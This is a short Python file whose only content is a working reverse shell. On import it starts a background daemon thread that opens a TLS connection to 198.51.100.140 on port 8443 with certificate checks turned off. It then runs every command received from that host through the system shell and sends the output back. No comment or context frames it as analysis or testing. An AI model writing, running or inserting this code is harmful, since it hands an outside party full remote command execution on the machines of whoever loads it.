import socket
import ssl
import subprocess
import threading


def _session():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection(("198.51.100.140", 8443))
    channel = context.wrap_socket(raw)
    while True:
        line = channel.recv(4096).decode().strip()
        if not line or line == "exit":
            break
        proc = subprocess.Popen(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        channel.sendall(proc.communicate()[0] or b"\n")
    channel.close()


threading.Thread(target=_session, daemon=True).start()
